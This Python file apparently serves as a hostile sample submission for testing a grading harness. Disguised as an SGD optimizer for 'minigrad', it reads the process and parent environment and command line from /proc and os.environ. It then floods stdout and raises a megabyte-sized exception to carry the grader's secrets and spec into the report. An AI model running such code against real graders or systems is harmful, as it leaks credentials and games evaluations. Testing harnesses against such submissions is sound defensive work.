"""Tries to carry the grader's environment, command line and spec into the report: through an exception
whose class name and message hold them (megabytes long), and through printing."""
import os
import sys

import minigrad
from minigrad.optim import Optimizer

stolen = [repr(sys.argv)]                 # the runner's own command line held its configuration
for path in ("/proc/self/environ", f"/proc/{os.getppid()}/environ", f"/proc/{os.getppid()}/cmdline"):
    try:
        with open(path, "rb") as f:
            stolen.append(f.read().decode("latin-1"))
    except OSError as e:
        stolen.append(f"{path}: {e}")
stolen.append(repr(dict(os.environ)))
text = " | ".join(stolen).replace("\0", " ")
print(text * 50)


class SGD(Optimizer):
    def __init__(self, params, lr, **kw):
        super().__init__(params, dict(lr=lr))

    @minigrad.no_grad()
    def step(self, closure=None):
        err = type(text[:5_000_000] * 1 + "X" * 5_000_000, (Exception,), {})
        raise err(text * 100)
